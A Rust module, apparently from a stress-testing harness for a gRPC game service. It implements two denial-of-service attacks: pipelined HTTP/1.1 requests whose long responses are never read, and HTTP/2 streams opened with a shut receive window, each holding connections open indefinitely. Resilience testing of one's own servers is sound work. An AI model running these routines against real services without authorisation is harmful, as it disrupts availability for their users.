//! Answers that nobody reads.

use std::sync::Arc;

use tokio::io::AsyncWriteExt;

use super::silence::connect;
use crate::attack::Attack;
use crate::http2::{self, flag, frame, kind};
use crate::target::{ATTACKER, Target};

/// The longest answer that takes no right to ask for.
const LONG: &str = "/bakufu.play.v1.MatchService/GetGameSchema";

/// Over each of some connections of HTTP/1.1, asks for long answers one after the
/// other and reads none.
pub(crate) fn answers_unread(target: Target, game: String, connections: usize) -> Attack {
    const QUESTIONS: usize = 200;
    let body = format!("{{\"game\":\"{game}\"}}");
    let question: Arc<str> = format!(
        "POST {LONG} HTTP/1.1\r\nhost: {}\r\ncontent-type: application/json\r\ncontent-length: \
         {}\r\n\r\n{body}",
        target.address,
        body.len(),
    )
    .into();
    Attack::by(connections, move |_, tally| {
        let question = Arc::clone(&question);
        async move {
            let Some(mut connection) = connect(target, &tally).await else { return };
            for _ in 0..QUESTIONS {
                if connection.write_all(question.as_bytes()).await.is_err() {
                    return tally.note("closed");
                }
            }
            tally.note("asked");
            hold(connection).await;
        }
    })
}

/// Over each of some connections of HTTP/2, opens so many calls with long answers
/// and takes not a byte of them.
pub(crate) fn windows_shut(
    target: Target,
    game: &str,
    connections: usize,
    streams: usize,
) -> Attack {
    let message: Arc<[u8]> = http2::grpc_message(game).into();
    Attack::by(connections, move |_, tally| {
        let message = Arc::clone(&message);
        async move {
            let Ok((reader, mut writer)) = http2::open(target, ATTACKER, 0).await else {
                return tally.note("refused");
            };
            tally.note("opened");
            let notes = Arc::clone(&tally);
            tokio::spawn(async move { reader.note_all(&notes).await });
            let headers = http2::grpc_headers(target, LONG);
            for _ in 0..streams {
                let stream = writer.next_stream();
                let begin = frame(kind::HEADERS, flag::END_HEADERS, stream, &headers);
                let end = frame(kind::DATA, flag::END_STREAM, stream, &message);
                if writer.send(&[begin, end].concat()).await.is_err() {
                    return;
                }
            }
            hold(writer).await;
        }
    })
}

/// Keeps something until the attack ceases.
async fn hold<T>(held: T) {
    std::future::pending::<()>().await;
    drop(held);
}
